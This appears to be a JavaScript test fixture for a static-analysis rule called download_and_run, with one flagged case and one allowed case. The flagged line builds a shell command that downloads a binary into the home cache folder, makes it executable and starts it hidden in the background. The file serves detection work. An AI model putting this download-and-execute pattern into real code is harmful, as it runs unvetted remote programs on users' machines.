// A download, chmod and start in one command line built over two lines.
var exec = require('child_process').exec;
var bin = require('os').homedir() + '/.cache/h';
// ruleid: download_and_run
exec('curl -s ' + HOST + '/h -o ' + bin +
     ' && chmod 755 ' + bin + ' && nohup ' + bin + ' &', function () {});
// ok: download_and_run
exec('curl -s ' + HOST + '/status', function () {});
